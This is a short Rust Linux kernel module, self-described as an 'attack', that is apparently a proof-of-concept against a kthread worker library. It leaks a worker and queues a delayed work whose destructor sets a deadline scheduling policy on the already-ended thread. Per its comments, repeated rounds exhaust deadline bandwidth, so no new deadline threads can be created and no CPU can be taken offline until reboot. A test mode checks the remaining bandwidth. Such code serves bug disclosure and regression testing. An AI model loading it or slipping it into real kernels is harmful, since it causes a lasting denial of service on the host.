// SPDX-License-Identifier: GPL-2.0
#![forbid(unsafe_code)]
//! Makes the thread of a worker a deadline thread after it has ended.
//!
//! The destructor of a delayed work that is dropped by the teardown of its leaked worker calls
//! `set_policy()`. The bandwidth of a dead thread is never given back: after some rounds no
//! deadline thread can be created, and no CPU can be taken off line, until the next boot.
//!
//! A sound library fails with `ENODEV`, as `KthreadWorker::set_policy()` says. `form=1` tests
//! whether bandwidth is left.
use kernel::{prelude::*, sync::Arc, time::Delta};
use tether::kthread::{worker::*, Builder, Policy};
module! {
    type: M, name: "dldead", authors: ["h"], description: "attack", license: "GPL",
    params: { form: i32 { default: 0, description: "1: test", }, },
}
fn tenth() -> Policy {
    Policy::Deadline {
        runtime: Delta::from_millis(10),
        deadline: Delta::from_millis(100),
        period: Delta::from_millis(100),
    }
}
struct Late(Arc<KthreadWorker>);
impl Drop for Late {
    fn drop(&mut self) {
        pr_info!("dldead: set_policy: {:?}\n", self.0.set_policy(tenth()));
    }
}
#[pin_data]
struct Item {
    late: Late,
    #[pin]
    work: KthreadDelayedWork<Item>,
}
impl_has_kthread_delayed_work! { impl HasKthreadDelayedWork<Self> for Item { self.work } }
impl KthreadWorkItem for Item {
    type Pointer = Arc<Item>;
    fn run(this: Arc<Item>, _: &WorkContext<'_>) {
        let _ = &this.late;
        pr_info!("dldead: it ran\n");
    }
}
struct M;
impl kernel::Module for M {
    fn init(module: &'static ThisModule) -> Result<Self> {
        if module_parameters::form.value() == 1 {
            let result = Builder::new(c"dldead-t").policy(tenth()).create(|_| ());
            pr_info!(
                "dldead: a new deadline thread: {:?}\n",
                result.map(|_| ()).map_err(|refused| refused.error)
            );
            return Ok(M);
        }
        let worker = Arc::new(Builder::new(c"dldead").worker(module)?, GFP_KERNEL)?;
        let late = Late(worker.clone());
        let item = Arc::pin_init(
            pin_init!(Item { late, work <- KthreadDelayedWork::new() }),
            GFP_KERNEL,
        )?;
        worker.enqueue_delayed(item, 1_000_000)?;
        core::mem::forget(worker);
        Ok(M)
    }
}
